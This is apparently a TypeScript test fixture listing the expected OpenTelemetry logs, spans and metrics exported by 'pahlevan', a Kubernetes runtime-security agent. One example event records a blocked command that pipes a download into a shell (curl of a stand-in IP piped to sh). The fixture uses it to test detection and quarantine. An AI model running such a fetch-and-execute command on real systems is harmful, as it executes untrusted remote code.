/** What the examples are, in the words of OTLP, written by hand: all that a peer is to see. */
import type { Snapshot } from "../../../exporters/metrics/snapshot.ts";

/** 2026-11-22T10:11:12.123456789Z, and :13.500. */
const timeUnixNano = "1795342272123456789";
const observedTimeUnixNano = "1795342273500000000";
const trace = {
  traceId: "0af7651916cd43dd8448eb211c80319c",
  spanId: "b7ad6b7169203331",
  flags: 1,
};
const schemaUrl = "https://opentelemetry.io/schemas/1.45.0";
const scope = { name: "pahlevan", version: "1.2.3" };
const workload = { "pahlevan.workload.namespace": "shop", "pahlevan.workload.name": "checkout" };
const placed = { ...workload, "pahlevan.policy.name": "checkout-policy" };

/** The instance: uuid5(4d63009a-8d0f-11ee-aad7-4c796ed8e320, "test/node-1"), by Python. */
export const expectedResource = {
  schemaUrl,
  resource: {
    attributes: {
      "service.name": "pahlevan-agent",
      "service.version": "1.2.3",
      "service.instance.id": "aeed100c-bee2-53c6-a7d1-edd6372d0d44",
      "k8s.cluster.name": "test",
      "host.name": "node-1",
    },
  },
  scopeLogs: [{ scope, schemaUrl }],
};

export const expectedLogs = [
  {
    eventName: "pahlevan.decision",
    timeUnixNano,
    observedTimeUnixNano,
    severityNumber: 17,
    severityText: "error",
    body: "shop/checkout: denied exec /usr/bin/curl by /bin/sh (exec not allowed: no entry of the policy allows it)",
    attributes: {
      "container.id": "4f9c1d2e3b5a697887766554433221100ffeeddccbbaa99887766554433221100",
      "container.image.name": "registry.example/shop/checkout",
      "container.image.tags": ["1.4"],
      "k8s.namespace.name": "shop",
      "k8s.pod.name": "checkout-7d9f8-x2x4z",
      "process.pid": 4242n,
      "process.executable.path": "/bin/sh",
      "process.executable.name": "sh",
      "process.command_args": ["sh", "-c", 'curl "http://203.0.113.9/x" | sh'],
      "container.name": "checkout",
      "process.parent_pid": 4200n,
      "process.working_directory": "/srv",
      "process.user.id": 1000n,
      "file.path": "/usr/bin/curl",
      "file.name": "curl",
      "file.directory": "/usr/bin",
      "file.inode": "1234",
      "log.record.uid": "example-1",
      "security_rule.category": "exec",
      "security_rule.description": "exec not allowed: no entry of the policy allows it",
      "security_rule.name": "checkout-policy",
      "security_rule.ruleset.name": "pahlevan",
      "security_rule.version": "7",
      ...placed,
      "pahlevan.facet": "exec",
      "pahlevan.kind": "exec",
      "pahlevan.object": "/usr/bin/curl",
      "pahlevan.decision.action": "deny",
      "pahlevan.decision.mode": "enforce",
      "pahlevan.decision.tier": "lsm",
      "pahlevan.decision.reason": "exec not allowed: no entry of the policy allows it",
      "pahlevan.detail": '{"inode":"1234","device":42}',
      "pahlevan.process.start": "123456789012345",
      "pahlevan.process.parent.executable.path": "/usr/bin/node",
      "pahlevan.process.parent.start": "123456700000000",
    },
    ...trace,
  },
  {
    eventName: "pahlevan.behaviour.first_seen",
    timeUnixNano,
    observedTimeUnixNano,
    severityNumber: 5,
    severityText: "debug",
    body: "shop/checkout: new: connect tcp/203.0.113.9:443/out by /usr/bin/node",
    attributes: {
      "network.transport": "tcp",
      "network.type": "ipv4",
      "network.peer.address": "203.0.113.9",
      "network.peer.port": 443n,
      "process.pid": 4243n,
      "process.executable.path": "/usr/bin/node",
      "process.executable.name": "node",
      "process.user.id": 1000n,
      "destination.address": "203.0.113.9",
      "destination.port": 443n,
      "log.record.uid": "example-2",
      ...workload,
      "pahlevan.facet": "network",
      "pahlevan.kind": "connect",
      "pahlevan.object": "tcp/203.0.113.9:443/out",
      "pahlevan.decision.action": "allow",
      "pahlevan.decision.mode": "monitor",
      "pahlevan.decision.tier": "cgroup",
      "pahlevan.decision.reason": "first_seen",
      "pahlevan.detail":
        '{"protocol":"tcp","family":"ipv4","remote":{"address":"203.0.113.9","port":443}}',
      "pahlevan.process.start": "123456789099999",
    },
  },
  {
    eventName: "pahlevan.loop.transition",
    timeUnixNano,
    observedTimeUnixNano,
    severityNumber: 21,
    severityText: "critical",
    body: "shop/checkout: checkout-policy goes from Enforcing to Quarantine: cuts it off from the network and keeps it as it is",
    attributes: {
      "log.record.uid": "example-3",
      ...placed,
      "pahlevan.loop.from": "Enforcing",
      "pahlevan.loop.to": "Quarantine",
      "pahlevan.loop.step": 0n,
      "pahlevan.loop.signal": "quarantine",
      "pahlevan.loop.does": "cuts it off from the network and keeps it as it is",
      "pahlevan.loop.why": "the burst reads as an attack",
      "pahlevan.loop.cause.source": "alertmanager",
      "pahlevan.loop.cause.by": "PahlevanSuspectedAttack",
      "pahlevan.loop.cause.says": "an instance does what none of the others does",
      "pahlevan.loop.cause.fingerprint": "9a2f1c0b7d3e4f55",
      "pahlevan.loop.cause.url": "http://prometheus.example/graph?g0.expr=x",
    },
    ...trace,
  },
  {
    eventName: "pahlevan.loop.notice",
    timeUnixNano,
    observedTimeUnixNano,
    severityNumber: 21,
    severityText: "critical",
    body: "shop/checkout: checkout looks attacked: one instance ran /usr/bin/curl, and was cut off",
    attributes: { "log.record.uid": "example-4", ...placed, "pahlevan.notice": "page" },
    ...trace,
  },
  {
    eventName: "pahlevan.profile.converged",
    timeUnixNano,
    observedTimeUnixNano,
    severityNumber: 9,
    severityText: "info",
    body: "shop/checkout: learning has seen enough (214 behaviours)",
    attributes: {
      "log.record.uid": "example-5",
      ...placed,
      "pahlevan.profile.behaviours": 214n,
      "pahlevan.profile.instances": 3n,
      "pahlevan.profile.unseen_mass": 0.012,
    },
  },
];

export const expectedSpans = [
  {
    traceId: "0af7651916cd43dd8448eb211c80319c",
    spanId: "b7ad6b7169203331",
    parentSpanId: "00f067aa0ba902b7",
    // Sampled, and known to be no remote parent.
    flags: 257,
    name: "pahlevan.policy.canary",
    kind: 1,
    startTimeUnixNano: "1795342212123000000",
    endTimeUnixNano: timeUnixNano,
    attributes: {
      "log.record.uid": "example-6",
      ...placed,
      "pahlevan.loop.step": 1n,
      "pahlevan.loop.from": "Review",
    },
    status: {},
  },
];

const atMs = Date.parse("2026-11-22T10:11:00Z");
const sinceMs = Date.parse("2026-11-22T09:00:00Z");
const window = { startTimeUnixNano: `${sinceMs}000000`, timeUnixNano: `${atMs}000000` };

/** Numbers as the agent's metrics have them; the second gauge has none to tell. */
export const figures: Snapshot = {
  atMs,
  sinceMs,
  metrics: [
    {
      name: "pahlevan_policy_violations_total",
      help: "Acts against a policy.",
      type: "counter",
      samples: [
        [{ namespace: "shop", policy: "checkout-policy", facet: "exec" }, 7],
        [{ namespace: "shop", policy: "checkout-policy", facet: "file" }, 2 ** 40 + 1],
      ],
    },
    {
      name: "pahlevan_ring_size_bytes",
      help: "The ring.",
      type: "gauge",
      samples: [[{}, 8_388_608]],
    },
    { name: "pahlevan_nothing", help: "None.", type: "gauge", samples: [[{}, Number.NaN]] },
    {
      name: "pahlevan_signal_lag_seconds",
      help: "The lag.",
      type: "histogram",
      spreads: [
        { labels: { source: "grafana" }, bounds: [0.5, 1], cumulative: [3, 3, 5], sum: 9.5 },
      ],
    },
  ],
};

export const expectedMetrics = [
  {
    name: "pahlevan_policy_violations_total",
    description: "Acts against a policy.",
    sum: {
      aggregationTemporality: 2,
      isMonotonic: true,
      dataPoints: [
        {
          ...window,
          attributes: { namespace: "shop", policy: "checkout-policy", facet: "exec" },
          asDouble: 7,
        },
        {
          ...window,
          attributes: { namespace: "shop", policy: "checkout-policy", facet: "file" },
          asDouble: 1_099_511_627_777,
        },
      ],
    },
  },
  {
    name: "pahlevan_ring_size_bytes",
    description: "The ring.",
    unit: "By",
    gauge: { dataPoints: [{ ...window, asDouble: 8_388_608 }] },
  },
  {
    name: "pahlevan_signal_lag_seconds",
    description: "The lag.",
    unit: "s",
    histogram: {
      aggregationTemporality: 2,
      dataPoints: [
        {
          ...window,
          attributes: { source: "grafana" },
          count: "5",
          sum: 9.5,
          bucketCounts: ["3", "0", "2"],
          explicitBounds: [0.5, 1],
        },
      ],
    },
  },
];
